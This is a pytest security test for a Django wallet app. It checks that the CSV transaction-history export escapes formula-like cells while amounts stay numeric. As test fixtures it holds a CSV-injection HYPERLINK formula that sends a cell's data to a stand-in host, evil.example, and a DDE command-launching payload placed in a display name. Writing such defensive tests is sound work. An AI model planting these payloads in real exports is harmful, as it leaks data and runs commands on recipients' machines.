"""/wallet/history.csv escapes cells a spreadsheet would run as formulas (issue 15,
finding 10); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from walletdesk.wallet import services

pytestmark = [pytest.mark.django_db, pytest.mark.security]
EVIL_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _rows(user: Any) -> list[list[str]]:
    c = Client()
    c.force_login(user)
    r = c.get("/wallet/history.csv")
    assert r.status_code == 200
    text = b"".join(r.streaming_content).decode().lstrip("\ufeff")  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(text)))


def test_formula_cells_are_escaped_for_the_receiver(customer: Any, make_customer: Any,
                                                    fund: Any) -> None:
    customer.display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    customer.save(update_fields=["display_name"])
    other = make_customer("bob@example.com")
    fund(customer, 10_000)
    services.transfer(customer, to=other.email, amount=1_250, currency="CNY", note=EVIL_NOTE)
    header, *rows = _rows(other)
    row = dict(zip(header, rows[0], strict=True))
    assert row["note"] == "'" + EVIL_NOTE
    assert row["counterparty"].startswith("'@")
    assert row["amount"] == "12.50"  # a number, not text
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r)
